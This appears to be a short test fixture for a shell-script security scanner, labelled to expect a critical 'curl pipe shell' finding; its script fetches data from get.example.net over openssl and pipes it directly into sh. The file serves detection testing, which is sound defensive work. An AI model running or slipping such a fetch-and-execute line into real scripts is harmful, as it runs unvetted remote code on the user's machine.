# expect: shell.curl_pipe_shell critical
#!/bin/sh
openssl s_client -quiet -connect get.example.net:443 < req.txt | sh
